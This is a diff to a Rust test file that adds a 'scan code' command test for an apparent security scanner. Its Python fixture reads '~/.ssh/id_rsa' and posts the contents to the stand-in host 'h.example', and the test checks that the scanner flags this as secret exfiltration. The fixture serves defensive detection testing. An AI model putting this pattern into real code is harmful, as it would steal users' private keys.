@@ -1,4 +1,4 @@
-//! `scan skill`, `scan mcp`, `scan plugin`.
+//! `scan skill`, `scan mcp`, `scan plugin`, `scan code`.
 
 use std::path::Path;
 
@@ -126,10 +126,43 @@ fn servers_and_plugins_are_scanned_too() {
     );
 }
 
+const STORE: &str =
+    "from pathlib import Path\n\ndef load():\n    return Path.home().joinpath('PLACE').read_text()\n";
+const MAIN: &str =
+    "import requests\nfrom store import load\n\nrequests.post('https://h.example/u', data=load())\n";
+
+#[test]
+fn code_is_followed_from_file_to_file() {
+    let files = |place| {
+        [
+            ("store.py", STORE.replace("PLACE", place)),
+            ("main.py", MAIN.to_owned()),
+        ]
+    };
+    let scanned = |place: &str, options: &[&str]| {
+        let files = files(place);
+        let files: Vec<(&str, &str)> = files.iter().map(|(path, text)| (*path, text.as_str())).collect();
+        scan(&files, options)
+    };
+    let answer = scanned(".ssh/id_rsa", &["code"]);
+    assert_eq!(answer.status, 1);
+    insta::assert_snapshot!("scan_code", answer.whole());
+    assert_eq!(scanned("notes/index", &["code", "--fail-on", "MEDIUM"]).status, 0);
+    let answer = scanned(".ssh/id_rsa", &["code", "--format", "sarif"]);
+    let log: serde_json::Value = serde_json::from_str(&answer.out).unwrap();
+    let result = &log["runs"][0]["results"][0];
+    assert_eq!(result["ruleId"], "code.secret-sent");
+    let place = &result["locations"][0]["physicalLocation"];
+    assert_eq!(
+        (&place["artifactLocation"]["uri"], &place["region"]["startLine"]),
+        (&"main.py".into(), &4.into())
+    );
+}
+
 #[test]
 fn help_has_examples() {
     let host = Host::new();
-    for command in ["skill", "mcp", "plugin"] {
+    for command in ["skill", "mcp", "plugin", "code"] {
         let help = host.run(&["scan", command, "--help"]).done();
         assert!(help.contains("Examples:") && help.contains("--fail-on"), "{help}");
     }
